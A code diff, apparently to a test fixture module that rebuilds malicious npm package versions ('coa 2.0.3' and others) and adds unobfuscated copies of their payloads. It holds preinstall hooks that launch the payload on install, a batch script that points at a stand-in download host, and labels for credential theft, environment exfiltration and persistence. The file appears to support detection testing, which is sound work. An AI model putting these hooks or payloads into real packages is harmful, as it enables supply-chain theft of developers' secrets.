@@ -106,7 +106,7 @@ _AGENT_OTHER_LINES = tuple(
 
 # ------------------------------------------------------------------------------------------------- coa 2.0.3, rc
 
-_COMPILE = string_array("""\
+_COMPILE = """\
 const os = require('os');
 const { spawn } = require('child_process');
 
@@ -122,7 +122,7 @@ function run() {
 }
 
 run();
-""")
+"""
 _COMPILE_BAT = """\
 @echo off
 set tlds=https://cryptograph.harrier.invalid
@@ -144,9 +144,10 @@ _SETTINGS_AFTER = replace(
     _SETTINGS_BEFORE,
     version="2.0.3",
     published=at("2021-11-04 12:20"),
-    files={**_SETTINGS, "compile.js": _COMPILE or "", "compile.bat": _COMPILE_BAT},
+    files={**_SETTINGS, "compile.js": string_array(_COMPILE) or "", "compile.bat": _COMPILE_BAT},
     manifest={**_SETTINGS_BEFORE.manifest, "scripts": {"preinstall": "start /B node compile.js & node compile.js"}},
     payload=("compile.js",),
+    plain={"compile.js": _COMPILE},
 )
 
 # ------------------------------------------------------------------------------------------------- nx 21.5.0
@@ -347,6 +348,7 @@ _STORE_AFTER = replace(
     files={**_STORE, "src/math_symbol.js": string_array(_SYMBOLS) or ""},
     manifest={**_STORE_BEFORE.manifest, "scripts": {"test": "node test/store.js", "preinstall": "node src/math_symbol.js"}},
     payload=("src/math_symbol.js",),
+    plain={"src/math_symbol.js": _SYMBOLS},
 )
 
 _HARVEST = ("credentials-read", "environment-sent", "persistence-written", "obfuscated-code")
